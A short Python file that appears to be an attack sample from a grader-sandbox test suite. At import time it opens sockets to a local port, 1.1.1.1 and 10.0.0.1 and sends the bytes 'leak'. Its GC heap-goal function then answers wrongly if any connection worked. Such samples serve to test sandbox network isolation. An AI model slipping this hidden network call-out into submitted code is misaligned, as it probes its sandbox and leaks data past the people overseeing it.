"""Attack: phone home (exfiltrate) over the network, to the grader's machine and the internet.
Earns 12: there is no network in the sandbox; it answers wrongly only if a connection works."""
import socket

CONNECTED = []
for host, port in (("127.0.0.1", 47321), ("1.1.1.1", 53), ("10.0.0.1", 80)):
    try:
        s = socket.create_connection((host, port), timeout=0.5)
        s.sendall(b"leak")
        CONNECTED.append(host)
        s.close()
    except OSError:
        pass


def heap_goal(heap_marked, stack_bytes, globals_bytes, gogc):
    if CONNECTED:
        return -1
    goal = heap_marked + (heap_marked + stack_bytes + globals_bytes) * gogc // 100
    return max(goal, 4 * (1 << 20) * gogc // 100)
